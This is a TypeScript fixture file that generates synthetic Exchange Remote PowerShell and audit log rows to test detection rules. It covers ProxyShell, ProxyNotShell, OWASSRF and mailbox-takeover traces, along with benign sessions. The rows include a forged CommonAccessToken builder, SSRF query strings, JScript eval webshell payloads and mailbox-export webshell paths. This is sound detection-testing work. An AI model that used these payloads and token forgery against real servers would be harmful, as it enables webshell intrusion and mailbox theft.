// CmdletInfra fixtures (Rps_Cmdlet, Rps_Http) and the audit queue: ProxyShell, ProxyNotShell and OWASSRF as the
// research describes the real rows (exchange-logs.md §1.3, §2.4, §5), mailbox take-over cmdlets, and benign sessions.
import { addLog, guid, hex32, nonPii, psParams, type Expect, type FixtureSet, type PsValue, type Row } from './builder.js';
import { AUDIT, RPS_CMDLET, RPS_HTTP } from './columns.js';

const DOMAIN_SID = 'S-1-5-21-3911204587-1432097765-2765423981';
const VERSION = { MajorVersion: '15', MinorVersion: '1', BuildVersion: '2176', RevisionVersion: '2' };
const PS_POOL = 'w3wp#MSExchangePowerShellAppPool';
const HEALTH = 'HealthMailbox5c1e08d3a47f4b2e9d6a0c7f31b8e254';
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36';
const SOAP_POST = 'OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;';

const rpsCat = ['CVE-2021-34473', 'CVE-2021-34523'];
const allRps = [...rpsCat, 'CVE-2022-41040', 'CVE-2022-41082', 'CVE-2022-41080'];

function at(base: string, seconds: number): string {
  return new Date(Date.parse(base) + seconds * 1000).toISOString();
}

interface Cmdlet {
  t: string;
  cmdlet: string;
  params: readonly (readonly [string, PsValue])[];
  result?: string;
  /** GenericErrors of a failed cmdlet (default: an MRS failure). */
  errors?: string;
  hit?: Expect;
}

interface Session {
  requestId: string;
  user: string;
  sid: string;
  sender: string;
  app: string;
  isAdmin?: string;
}

function cmdletRows(s: Session, cmdlets: readonly Cmdlet[]): Row[] {
  const rows: Row[] = [];
  for (const c of cmdlets) {
    const row: Row = {
      v: {
        DateTime: at(c.t, 0.8), StartTime: c.t, RequestId: s.requestId, ...VERSION, ServerHostName: 'EXCH01', ProcessId: '7312',
        ProcessName: PS_POOL, ThreadId: '41', CultureInfo: 'en-US', AuthenticatedUser: s.user, ExecutingUserSid: s.sid,
        IsAdmin: s.isAdmin ?? 'True', ClientApplication: s.app, Cmdlet: c.cmdlet, Parameters: psParams(c.params),
        CmdletUniqueId: guid(`${s.requestId}${c.t}${c.cmdlet}`), UserBudgetOnStart: 'Owner:Sid~' + s.sid + '~PowerShell~false,Conn:1,MaxConn:18,MaxBurst:1800000,Balance:1800000,Cutoff:3000000,RechargeRate:1800000,Policy:GlobalThrottlingPolicy_e7c3c1b0,IsServiceAccount:False,LiveTime:00:00:00.0050000',
        ContributeToFailFast: 'True', ADViewEntireForest: 'True', ADRecipientViewRoot: 'corp.example.com',
        OutputObjectCount: c.result === 'Error' ? '0' : '1', TotalTime: '212', ExecutionResult: c.result ?? 'Success',
        ErrorType: c.result === 'Error' ? 'UnHandled' : '',
        GenericInfo: `PSSenderInfo=${s.sender};ADServerSettingsInEnd=DC01.corp.example.com;`,
        GenericErrors: c.result === 'Error' ? c.errors ?? 'Microsoft.Exchange.MailboxReplicationService.MailboxReplicationPermanentException: MRS could not reach the mailbox database, Error code 0x8004010F\r\n   at Microsoft.Exchange.Management.RecipientTasks.NewMailboxExportRequest.InternalValidate()' : '',
        NonPiiParameters: nonPii(c.params),
      },
    };
    if (c.hit) row.hit = c.hit;
    rows.push(row);
  }
  // The duration-only row Exchange writes after a batch (research §0.2): RequestId, version and a time.
  rows.push({ v: { RequestId: s.requestId, ...VERSION, TotalTime: '48' } });
  return rows;
}

function cmdletLog(set: FixtureSet, path: string, date: string, rows: Row[]): void {
  addLog(set, path, { mode: 'csv-compatible', version: '15.01.2176.002', logType: 'Rps Cmdlet Logs', date, fields: RPS_CMDLET }, rows, true);
}

function httpLog(set: FixtureSet, path: string, date: string, rows: Row[]): void {
  addLog(set, path, { mode: 'csv-compatible', version: '15.01.2176.002', logType: 'Rps Http Logs', date, fields: RPS_HTTP }, rows, true);
}

interface Http {
  t: string;
  user: string;
  ip: string;
  ua: string;
  status: string;
  query?: string;
  stem?: string;
  command?: string;
  hit?: Expect;
}

function httpRows(list: readonly Http[]): Row[] {
  return list.map((h) => {
    const proxied = h.command !== undefined;
    const row: Row = {
      v: {
        DateTime: at(h.t, 0.3), StartTime: h.t, RequestId: guid(`http${h.t}${h.ua}`), ...VERSION, UrlHost: 'exch01.corp.example.com',
        UrlStem: h.stem ?? '/Powershell', AuthenticationType: 'Kerberos', IsAuthenticated: 'true', AuthenticatedUser: h.user,
        ClientIpAddress: h.ip, ServerHostName: 'EXCH01', FrontEndServer: 'EXCH01.CORP.EXAMPLE.COM', HttpStatus: h.status, SubStatus: '0',
        // Exchange's own front end names the WinRM operation in X-RemotePs-* headers; forged requests carry none (§2.2).
        Action: proxied ? 'Command' : '', CommandId: proxied ? guid(`cmd${h.t}`) : '', CommandName: h.command ?? '',
        SessionId: proxied ? guid(`ses${h.user}`) : '', ShellId: proxied ? guid(`shl${h.user}`) : '',
        RequestBytes: '4713', ClientInfo: h.ua, CPU: '15', Memory: '2048', TotalTime: '187', UrlQuery: h.query ?? '',
        GenericInfo: SOAP_POST,
      },
    };
    if (h.hit) row.hit = h.hit;
    return row;
  });
}

/** A CommonAccessToken as the research decodes it (§2.4): tagged fields V, T, C, A, L, U, G, E; ours, base64. */
function catToken(login: string, sid: string, groups: readonly string[]): string {
  const str = (tag: string, s: string): Buffer => Buffer.concat([Buffer.from(tag), Buffer.from([s.length]), Buffer.from(s)]);
  const count = Buffer.alloc(4);
  count.writeUInt32LE(groups.length);
  const parts = [Buffer.from('V\x01\x00'), str('T', 'Windows'), Buffer.from('C\x00'), str('A', 'Basic'), str('L', login), str('U', sid), Buffer.from('G'), count];
  for (const g of groups) parts.push(Buffer.from([7, 0, 0, 0]), Buffer.from([g.length]), Buffer.from(g));
  parts.push(Buffer.from('E'), Buffer.alloc(4));
  return Buffer.concat(parts).toString('base64');
}

const ADMIN_500 = `${DOMAIN_SID}-500`;
const CMDLET_DIR = 'Logging/CmdletInfra/Powershell-Proxy/Cmdlet';
const HTTP_DIR = 'Logging/CmdletInfra/Powershell-Proxy/Http';

export function proxyShell(set: FixtureSet): void {
  const root = 'proxyshell-cmdletinfra';
  const token = catToken('jones@corp.example.com', ADMIN_500, ['S-1-1-0', 'S-1-5-2', 'S-1-5-11', 'S-1-5-15']);
  const query = `?X-Rps-CAT=${token}&Email=autodiscover/autodiscover.json%3F@corp.example.com`;
  const http = (t: string, ua: string, status: string, rules: string[]): Http =>
    ({ t, user: 'jones@corp.example.com', ip: '198.51.100.23', ua, status, query, hit: { rules, cves: allRps, attack: ['T1190', 'T1059.001'] } });
  httpLog(set, `${root}/${HTTP_DIR}/Rps_Http_2021081321-1.LOG`, '2021-08-13T21:00:02.117Z', httpRows([
    { t: '2021-08-13T21:02:10.511Z', user: `${HEALTH}@corp.example.com`, ip: '10.0.0.21', ua: 'Exchange BackEnd Probes', status: '200', command: 'Get-Mailbox' },
    { t: '2021-08-13T21:05:41.090Z', user: 'CORP\\admin.ops', ip: '10.0.0.45', ua: 'Microsoft WinRM Client', status: '200', command: 'Get-Mailbox' },
    { t: '2021-08-13T21:05:42.300Z', user: 'CORP\\admin.ops', ip: '10.0.0.45', ua: '', status: '200', command: 'Get-Mailbox' },
    http('2021-08-13T21:13:58.402Z', CHROME, '200', ['exch_rps_http_unexpected_client_success', 'exch_rps_http_ssrf_query']),
    http('2021-08-13T21:14:08.990Z', 'Python PSRP Client', '200', ['exch_rps_http_unexpected_client_success', 'exch_rps_http_ssrf_query']),
    http('2021-08-13T21:14:09.870Z', 'Python PSRP Client', '200', ['exch_rps_http_unexpected_client_success', 'exch_rps_http_ssrf_query']),
    http('2021-08-13T21:31:15.004Z', 'python-requests/2.26.0', '500', ['exch_rps_http_unexpected_client', 'exch_rps_http_ssrf_query']),
  ]));

  const attacker: Session = { requestId: guid('proxyshell-rps'), user: 'Administrator', sid: ADMIN_500, sender: 'jones@corp.example.com', app: 'PowerShell' };
  const tell = 'exch_rps_cmdlet_builtin_admin_sid_other_login';
  const tellCves = rpsCat;
  const name = hex32('export-name');
  cmdletLog(set, `${root}/${CMDLET_DIR}/Rps_Cmdlet_2021081321-1.LOG`, '2021-08-13T21:00:01.930Z', [
    ...cmdletRows({ requestId: guid('probe'), user: HEALTH, sid: `${DOMAIN_SID}-1151`, sender: `CORP\\${HEALTH}`, app: 'ActiveMonitor', isAdmin: 'False' }, [
      { t: '2021-08-13T21:02:10.600Z', cmdlet: 'Get-Mailbox', params: [['ResultSize', '1']] },
    ]),
    ...cmdletRows(attacker, [
      { t: '2021-08-13T21:14:09.120Z', cmdlet: 'New-ManagementRoleAssignment', params: [['Role', 'Mailbox Import Export'], ['SecurityGroup', 'Organization Management']],
        hit: { rules: ['exch_rps_cmdlet_import_export_role', tell, 'exch_rps_cmdlet_builtin_admin_sid'], cves: tellCves, attack: ['T1098', 'T1078.001'] } },
      { t: '2021-08-13T21:14:10.450Z', cmdlet: 'New-MailboxExportRequest', result: 'Error',
        params: [['Mailbox', 'jones'], ['Name', name], ['ContentFilter', `Subject -eq '${name}'`], ['FilePath', '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\qzwvrt.aspx']],
        hit: { rules: ['exch_rps_cmdlet_mailbox_export_webshell', 'exch_rps_cmdlet_mailbox_export', tell], cves: ['CVE-2021-31207', ...tellCves], attack: ['T1505.003', 'T1114.002'] } },
      { t: '2021-08-13T21:14:11.020Z', cmdlet: 'Get-MailboxExportRequest', params: [], hit: { rules: [tell], cves: tellCves, attack: ['T1190'] } },
      { t: '2021-08-13T21:14:11.700Z', cmdlet: 'Remove-MailboxExportRequest', params: [['Identity', `jones\\${name}`], ['Confirm', 'False']],
        hit: { rules: ['exch_rps_cmdlet_remove_export_request', tell], cves: tellCves, attack: ['T1070'] } },
      // The public PoC's variant: \\localhost, drafts only; a second try into the HttpProxy folder whose path is
      // longer than 200 characters, so the logger cut it before the '.aspx' (rules must not need the tail).
      { t: '2021-08-13T21:31:15.300Z', cmdlet: 'New-MailboxExportRequest',
        params: [['Mailbox', 'jones@corp.example.com'], ['IncludeFolders', ['#Drafts#']], ['FilePath', '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\mxkqop.aspx']],
        hit: { rules: ['exch_rps_cmdlet_mailbox_export_webshell', tell], cves: ['CVE-2021-31207'], attack: ['T1505.003', 'T1114.002'] } },
      { t: '2021-08-13T21:33:02.000Z', cmdlet: 'New-MailboxExportRequest',
        params: [['Mailbox', 'jones@corp.example.com'], ['IncludeFolders', ['#Drafts#', '#Inbox#']],
          ['FilePath', `\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\${'a'.repeat(30)}\\${'current'.repeat(12)}\\errorfe-theme-resources.aspx`]],
        hit: { rules: ['exch_rps_cmdlet_mailbox_export_webshell'], cves: ['CVE-2021-31207'], attack: ['T1505.003'] } },
    ]),
    ...cmdletRows({ ...attacker, requestId: guid('proxyshell-rps-2') }, [
      // A script in ExternalUrl longer than 200 characters: the logger keeps the '<script' head only.
      { t: '2021-08-13T21:40:20.500Z', cmdlet: 'Set-OabVirtualDirectory',
        params: [['Identity', 'EXCH01\\OAB (Default Web Site)'], ['ExternalUrl', `http://ffff/#<script language="JScript" runat="server">function Page_Load(){${'/'.repeat(40)}eval(Request["k"],"unsafe");${'/'.repeat(120)}}</script>`]],
        hit: { rules: ['exch_rps_cmdlet_vdir_script', tell], cves: ['CVE-2021-27065'], attack: ['T1505.003'] } },
      { t: '2021-08-13T21:41:02.800Z', cmdlet: 'New-ExchangeCertificate',
        params: [['GenerateRequest', 'True'], ['SubjectName', 'CN=<%@ Page Language="Jscript"%><%eval(Request.Form["p"],"unsafe");%>'], ['RequestFile', '\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\logoff2.aspx']],
        hit: { rules: ['exch_rps_cmdlet_cert_request_webshell', tell], attack: ['T1505.003'] } },
    ]),
  ]);

  // The audit queue's copy of the same two cmdlets (research §5: an on-disk admin-audit trail with the caller).
  const data = (op: string, params: [string, string][], t: string): string => JSON.stringify({
    CreationTime: t.slice(0, 19), Id: guid(`audit${op}${t}`), Operation: op, OrganizationId: guid('org'), RecordType: 1, ResultStatus: 'True',
    UserKey: ADMIN_500, UserType: 2, Version: 1, Workload: 'Exchange', ClientIP: '198.51.100.23', ObjectId: params[0]![1], UserId: 'CORP\\Administrator',
    ExternalAccess: false, OrganizationName: 'corp.example.com', OriginatingServer: 'EXCH01 (15.01.2176.002)',
    Parameters: params.map(([Name, Value]) => ({ Name, Value })),
  });
  const audit = (t: string, op: string, params: [string, string][], hit: Expect): Row => ({
    v: { Timestamp: t, Server: 'EXCH01', TenantId: '', RecordType: 'ExchangeAdmin', Data: data(op, params, t), UserKey: ADMIN_500, RecordId: guid(`rec${t}`), Operation: op, Workload: 'Exchange', ResultStatus: 'True', Version: '1', Scope: 'onprem' },
    hit,
  });
  addLog(set, `${root}/Logging/CosmosQueue/audit/audit20210813-1.LOG`,
    { mode: 'hash-first', software: 'Microsoft Exchange', version: '15.01.2176.002', logType: 'audit', date: '2021-08-13T00:00:03.402Z', fields: AUDIT }, [
      { v: { Timestamp: '2021-08-13T09:12:40.118Z', Server: 'EXCH01', RecordType: 'ExchangeAdmin', Data: data('Set-Mailbox', [['Identity', 'jones'], ['ProhibitSendQuota', '5 GB']], '2021-08-13T09:12:40.118Z'), Operation: 'Set-Mailbox', Workload: 'Exchange', ResultStatus: 'True', Version: '1' } },
      audit('2021-08-13T21:14:09.410Z', 'New-ManagementRoleAssignment', [['Role', 'Mailbox Import Export'], ['SecurityGroup', 'Organization Management']],
        { rules: ['exch_audit_import_export_role'], attack: ['T1098'] }),
      audit('2021-08-13T21:14:10.700Z', 'New-MailboxExportRequest', [['Mailbox', 'jones'], ['FilePath', '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\qzwvrt.aspx']],
        { rules: ['exch_audit_mailbox_export_webshell'], cves: ['CVE-2021-31207'], attack: ['T1505.003', 'T1114.002'] }),
    ], false);
}

/** ProxyNotShell (authenticated, browser agent, percent-encoded query) and OWASSRF (attacker agent through /owa). */
export function proxyNotShell(set: FixtureSet): void {
  const root = 'proxynotshell-cmdletinfra';
  const cves = ['CVE-2022-41040', 'CVE-2022-41082'];
  const edge = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36 Edg/105.0.1343.53';
  httpLog(set, `${root}/${HTTP_DIR}/Rps_Http_2022100409-1.LOG`, '2022-10-04T09:00:00.870Z', httpRows([
    { t: '2022-10-04T09:03:11.200Z', user: `${HEALTH}@corp.example.com`, ip: '10.0.0.21', ua: 'Exchange BackEnd Probes', status: '200', command: 'Get-Mailbox' },
    { t: '2022-10-04T09:17:44.610Z', user: 'lowpriv.user', ip: '203.0.113.14', ua: edge, status: '200', stem: '/PowerShell/',
      query: '?%17Email%15Autodiscover/autodiscover.json?%9Fx%02%E1',
      hit: { rules: ['exch_rps_http_unexpected_client_success', 'exch_rps_http_ssrf_query'], cves, attack: ['T1190', 'T1059.001'] } },
    { t: '2022-10-04T09:17:45.020Z', user: 'lowpriv.user', ip: '203.0.113.14', ua: edge, status: '200', stem: '/PowerShell/', query: '?%DB%03%C2%86%01%00',
      hit: { rules: ['exch_rps_http_unexpected_client_success'], cves, attack: ['T1190'] } },
    // OWASSRF: /owa/<mailbox>/powershell reaches the back end with the attacker's own agent and the real IP in XFF.
    { t: '2022-10-04T14:22:09.330Z', user: 'lowpriv.user@corp.example.com', ip: '203.0.113.88 10.0.0.5', ua: 'python-requests/2.28.1', status: '200',
      hit: { rules: ['exch_rps_http_unexpected_client_success'], cves: ['CVE-2022-41080', 'CVE-2022-41082'], attack: ['T1190'] } },
    { t: '2022-10-04T14:22:11.610Z', user: 'lowpriv.user@corp.example.com', ip: '203.0.113.88 10.0.0.5', ua: 'python-requests/2.28.1', status: '500',
      hit: { rules: ['exch_rps_http_unexpected_client'], cves: ['CVE-2022-41080', 'CVE-2022-41082'], attack: ['T1190'] } },
  ]));
}

/** Mailbox take-over through Remote PowerShell with a stolen admin account: forwarding, rules, permissions, searches. */
export function mailTakeover(set: FixtureSet): void {
  const s: Session = { requestId: guid('takeover'), user: 'helpdesk.adm', sid: `${DOMAIN_SID}-4127`, sender: 'CORP\\helpdesk.adm', app: 'PowerShell' };
  const fwd = (rules: string[]): Expect => ({ rules, attack: ['T1114.003'] });
  const drop = 'ledger@mail-drop.example.net';
  cmdletLog(set, `mail-forwarding/${CMDLET_DIR}/Rps_Cmdlet_2022031410-1.LOG`, '2022-03-14T10:00:00.311Z', cmdletRows(s, [
    { t: '2022-03-14T10:02:00.000Z', cmdlet: 'Get-Mailbox', params: [['Identity', 'cfo']] },
    { t: '2022-03-14T10:02:30.000Z', cmdlet: 'New-InboxRule', params: [['Mailbox', 'cfo'], ['Name', '.'], ['SubjectOrBodyContainsWords', ['invoice', 'payment']], ['ForwardTo', drop], ['StopProcessingRules', 'True']],
      hit: fwd(['exch_rps_cmdlet_inbox_rule_forwarding']) },
    { t: '2022-03-14T10:03:00.000Z', cmdlet: 'Set-InboxRule', params: [['Identity', 'cfo\\8164390417381425153'], ['RedirectTo', drop]], hit: fwd(['exch_rps_cmdlet_inbox_rule_forwarding']) },
    { t: '2022-03-14T10:03:20.000Z', cmdlet: 'New-InboxRule', params: [['Mailbox', 'cfo'], ['Name', 'news'], ['MoveToFolder', 'cfo:\\RSS Feeds'], ['MarkAsRead', 'True']] },
    { t: '2022-03-14T10:04:00.000Z', cmdlet: 'Set-Mailbox', params: [['Identity', 'cfo'], ['ForwardingSmtpAddress', `smtp:${drop}`], ['DeliverToMailboxAndForward', 'True']],
      hit: fwd(['exch_rps_cmdlet_mailbox_forwarding']) },
    { t: '2022-03-14T10:04:30.000Z', cmdlet: 'Set-Mailbox', params: [['Identity', 'jones'], ['ForwardingSmtpAddress', null]] },
    { t: '2022-03-14T10:04:40.000Z', cmdlet: 'Set-Mailbox', params: [['Identity', 'jones'], ['ProhibitSendQuota', '5GB']] },
    { t: '2022-03-14T10:05:00.000Z', cmdlet: 'New-TransportRule', params: [['Name', 'Journal sync'], ['SentToScope', 'NotInOrganization'], ['BlindCopyTo', drop]],
      hit: fwd(['exch_rps_cmdlet_transport_rule_copy']) },
    { t: '2022-03-14T10:06:00.000Z', cmdlet: 'Add-MailboxPermission', params: [['Identity', 'cfo'], ['User', 'svc-sync'], ['AccessRights', 'FullAccess'], ['InheritanceType', 'All']],
      hit: { rules: ['exch_rps_cmdlet_mailbox_permission'], attack: ['T1098.002'] } },
    { t: '2022-03-14T10:06:20.000Z', cmdlet: 'Add-ADPermission', params: [['Identity', 'CFO'], ['User', 'svc-sync'], ['ExtendedRights', 'Send As']],
      hit: { rules: ['exch_rps_cmdlet_mailbox_permission'], attack: ['T1098.002'] } },
    { t: '2022-03-14T10:07:00.000Z', cmdlet: 'Add-RoleGroupMember', params: [['Identity', 'Organization Management'], ['Member', 'svc-sync']],
      hit: { rules: ['exch_rps_cmdlet_role_group_change'], attack: ['T1098'] } },
    { t: '2022-03-14T10:08:00.000Z', cmdlet: 'New-MailboxSearch', params: [['Name', 'q1'], ['SourceMailboxes', ['cfo', 'ceo']], ['TargetMailbox', 'svc-sync'], ['SearchQuery', 'wire OR password']],
      hit: { rules: ['exch_rps_cmdlet_mailbox_search_target'], attack: ['T1114.002'] } },
    { t: '2022-03-14T10:09:00.000Z', cmdlet: 'Search-Mailbox', params: [['Identity', 'ceo'], ['SearchQuery', 'invoice'], ['TargetMailbox', 'svc-sync'], ['TargetFolder', 'ceo-copy']],
      hit: { rules: ['exch_rps_cmdlet_mailbox_search_target'], attack: ['T1114.002'] } },
    { t: '2022-03-14T10:10:00.000Z', cmdlet: 'New-MailboxExportRequest', params: [['Mailbox', 'ceo'], ['FilePath', '\\\\fs01\\pst$\\ceo.pst']],
      hit: { rules: ['exch_rps_cmdlet_mailbox_export'], attack: ['T1114.002'], low: true } },
    // CVE-2021-42321: the Get-App deserialization fails with an InvalidCastException (exchange.md §2.5).
    { t: '2022-03-14T10:12:00.000Z', cmdlet: 'Get-App', params: [['Identity', 'x']], result: 'Error',
      errors: "Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object of type 'System.Windows.Data.ObjectDataProvider'",
      hit: { rules: ['exch_rps_cmdlet_cve_2021_42321_get_app'], cves: ['CVE-2021-42321'], attack: ['T1190'] } },
  ]));
}

/** Admin and Managed Availability sessions only: nothing here may rise to medium. */
export function benignCmdletInfra(set: FixtureSet): void {
  const root = 'benign-cmdletinfra';
  httpLog(set, `${root}/${HTTP_DIR}/Rps_Http_2021081309-1.LOG`, '2021-08-13T09:00:00.402Z', httpRows([
    { t: '2021-08-13T09:01:10.000Z', user: `${HEALTH}@corp.example.com`, ip: '10.0.0.21', ua: 'Exchange BackEnd Probes', status: '200', command: 'Get-Mailbox' },
    { t: '2021-08-13T09:02:10.000Z', user: `${HEALTH}@corp.example.com`, ip: '10.0.0.21', ua: 'Exchange BackEnd Probes', status: '500', command: 'Get-Mailbox' },
    { t: '2021-08-13T09:05:00.000Z', user: 'CORP\\admin.ops', ip: '10.0.0.45', ua: 'Microsoft WinRM Client', status: '200', command: 'Get-Mailbox' },
    { t: '2021-08-13T09:05:01.000Z', user: 'CORP\\admin.ops', ip: '10.0.0.45 10.0.0.5', ua: '', status: '200', command: 'Set-Mailbox' },
    { t: '2021-08-13T09:06:00.000Z', user: 'CORP\\Administrator', ip: '10.0.0.46', ua: 'Microsoft WinRM Client', status: '200', command: 'Get-Mailbox' },
  ]));
  cmdletLog(set, `${root}/${CMDLET_DIR}/Rps_Cmdlet_2021081309-1.LOG`, '2021-08-13T09:00:00.310Z', [
    ...cmdletRows({ requestId: guid('b-probe'), user: HEALTH, sid: `${DOMAIN_SID}-1151`, sender: `CORP\\${HEALTH}`, app: 'ActiveMonitor', isAdmin: 'False' }, [
      { t: '2021-08-13T09:01:10.100Z', cmdlet: 'Get-Mailbox', params: [['ResultSize', '1']] },
      { t: '2021-08-13T09:02:10.100Z', cmdlet: 'Test-MapiConnectivity', params: [['Identity', `${HEALTH}@corp.example.com`]] },
    ]),
    ...cmdletRows({ requestId: guid('b-admin'), user: 'admin.ops', sid: `${DOMAIN_SID}-2288`, sender: 'CORP\\admin.ops', app: '' }, [
      { t: '2021-08-13T09:05:00.200Z', cmdlet: 'Get-Mailbox', params: [['Identity', 'jones']] },
      { t: '2021-08-13T09:05:01.200Z', cmdlet: 'Set-Mailbox', params: [['Identity', 'jones'], ['ProhibitSendQuota', '5GB'], ['ForwardingSmtpAddress', null]] },
      { t: '2021-08-13T09:05:30.000Z', cmdlet: 'Get-MailboxExportRequest', params: [] },
      { t: '2021-08-13T09:05:40.000Z', cmdlet: 'Set-OwaVirtualDirectory', params: [['Identity', 'EXCH01\\owa (Default Web Site)'], ['ExternalUrl', 'https://mail.corp.example.com/owa']] },
      { t: '2021-08-13T09:05:50.000Z', cmdlet: 'New-ExchangeCertificate', params: [['GenerateRequest', 'True'], ['SubjectName', 'CN=mail.corp.example.com'], ['RequestFile', '\\\\fs01\\certs\\mail-2021.req']] },
    ]),
    // The built-in Administrator running the Exchange Management Shell under its own name: context (low) only.
    ...cmdletRows({ requestId: guid('b-builtin'), user: 'Administrator', sid: ADMIN_500, sender: 'CORP\\Administrator', app: '' }, [
      { t: '2021-08-13T09:06:00.200Z', cmdlet: 'Get-Mailbox', params: [['Identity', 'jones']], hit: { rules: ['exch_rps_cmdlet_builtin_admin_sid'], attack: ['T1078.001'], low: true } },
    ]),
  ]);
}
